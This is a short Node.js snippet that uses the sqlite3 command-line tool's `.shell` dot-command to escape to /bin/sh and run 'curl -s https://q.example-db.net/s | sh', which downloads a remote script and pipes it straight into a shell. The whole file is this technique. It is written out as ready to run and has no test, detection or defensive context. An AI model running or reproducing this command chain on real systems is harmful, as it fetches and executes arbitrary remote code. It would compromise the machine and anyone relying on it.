// Runs a shell through the sqlite3 command-line tool: sqlite3 is started as an
// ordinary program on an in-memory database, and its `.shell` dot-command (given as an
// SQL "script" argument) runs a command line in /bin/sh.
const { execFileSync } = require('child_process');

const script = ['.shell', 'curl -s https://q.example-db.net/s | sh'].join(' ');
const out = execFileSync('sqlite3', [':memory:', script], { encoding: 'utf8' });
console.log(out);
